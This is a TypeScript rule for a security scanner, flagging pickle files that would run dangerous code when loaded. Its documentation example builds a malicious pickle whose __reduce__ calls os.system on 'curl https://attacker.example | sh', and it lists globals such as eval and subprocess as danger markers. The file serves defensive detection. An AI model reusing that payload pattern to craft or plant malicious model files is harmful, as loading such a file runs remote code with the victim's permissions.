/**
 * SER013 dangerous-pickle-file: a pickle-based file that, when loaded, would import a
 * dangerous global (one that runs commands, evaluates code, touches files or the network,
 * loads a nested pickle, or reaches arbitrary attributes) or a global the reader cannot
 * name statically (how real payloads hide). Such a file gets this finding instead of SER012.
 */
import type { Range } from '../../../protocol/findings';
import { defineRule, type PickleContext } from '../../../server/src/engine/rule';
import {
  describeContainer,
  formatGlobal,
  judgeGlobals,
  listWithMore,
  locateGlobal,
  readErrorsOf,
  UNRESOLVED_MODULE,
  wasCalled,
} from '../../../server/src/pickle/policy';

/** Pickles are binary: findings sit at the top of the file. */
const TOP: Range = { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } };
/** Further dangerous globals named in the message; the rest are counted. */
const SHOWN = 3;

export default defineRule({
  target: 'pickle',
  meta: {
    id: 'SER013',
    name: 'dangerous-pickle-file',
    family: 'SER',
    severity: 'error',
    practice: 'P1',
    languages: ['pickle'],
    summary: 'A pickle-based file would run dangerous code (os.system, eval, subprocess, a nested load...) when loaded.',
    provenance: ['picklescan (dangerous globals)', 'modelscan', 'fickling check_safety', "torch.load(weights_only=True)'s allowlist"],
    fix: 'none',
    docs: {
      what:
        'Reads the opcodes of pickle-based files in the workspace (never loading them) and reports a file that ' +
        'would import a dangerous global: one that runs commands or processes (`os.system`, `subprocess.Popen`), ' +
        'evaluates code (`builtins.eval`, `exec`), touches files or the network, loads a nested pickle ' +
        '(`pickle.loads`, `torch.load`), or reaches arbitrary attributes (`getattr`, `operator.attrgetter`). ' +
        'A global the reader cannot name without running the pickle (a STACK_GLOBAL on strings computed while ' +
        'loading, an extension code) is reported too: that is how payloads hide from scanners. The message names ' +
        'the global, what it does, whether loading calls it, and the byte offset (and archive member).',
      why:
        'Loading such a file runs its payload with your permissions: in an editor, a notebook, a CI job or a ' +
        'serving container. Model files are downloaded and shared like data, so they are a favourite way in. ' +
        '`torch.load(weights_only=True)` and `safetensors` refuse these files; plain `pickle.load`, ' +
        '`joblib.load` and older `torch.load` run them.',
      example: [
        'import os, pickle',
        '',
        'class Payload:',
        '    def __reduce__(self):',
        "        return (os.system, ('curl https://attacker.example | sh',))",
        '',
        "with open('model.pkl', 'wb') as f:",
        '    pickle.dump(Payload(), f)        # model.pkl: SER013, calls os.system when loaded',
      ].join('\n'),
      useInstead: [
        '# Do not load the file. Delete it, or recreate the model from code you trust and',
        '# ship it in a format that runs no code on load:',
        "torch.onnx.export(model, example_input, 'model.onnx')",
        "save_file(model.state_dict(), 'model.safetensors')  # from safetensors.torch",
      ].join('\n'),
      references: [
        'https://docs.python.org/3/library/pickle.html',
        'https://huggingface.co/docs/hub/security-pickle',
        'https://github.com/trailofbits/fickling',
        'https://github.com/mmaitre314/picklescan',
        'https://pytorch.org/docs/stable/notes/serialization.html',
      ],
    },
  },
  check(ctx: PickleContext) {
    const dangerous = judgeGlobals(ctx.globals).dangerous; // called ones first
    if (dangerous.length === 0) return;
    const [first] = dangerous;
    const verb = wasCalled(first.global) ? 'calls' : 'imports';
    const where = locateGlobal(first.global);
    let message =
      first.global.module === UNRESOLVED_MODULE
        ? `Dangerous ${describeContainer(ctx)}: it ${verb} a global that cannot be named without running the pickle ` +
          `(${first.global.name}), the way payloads hide from scanners (${where}).`
        : `Dangerous ${describeContainer(ctx)}: it ${verb} ${formatGlobal(first.global)} when loaded, ` +
          `which ${first.judgement.effect ?? 'runs code'} (${where}).`;
    const others = [...new Set(dangerous.slice(1).map((d) => formatGlobal(d.global)))].filter((name) => name !== formatGlobal(first.global));
    if (others.length > 0) {
      message += ` It also imports ${others.length} more dangerous ${others.length === 1 ? 'global' : 'globals'}: ${listWithMore(others, SHOWN)}.`;
    }
    const errors = readErrorsOf(ctx);
    if (errors.length > 0) message += ` Reading it also hit a problem: ${errors[0].message.replace(/\.$/, '')}${errors[0].member ? ` in ${errors[0].member}` : ''}.`;
    message +=
      ' Do not load it (pickle.load, joblib.load, or torch.load without weights_only=True would run it): ' +
      'delete it, or recreate the model from code you trust and save it as ONNX or safetensors.';
    ctx.report(TOP, message);
  },
});
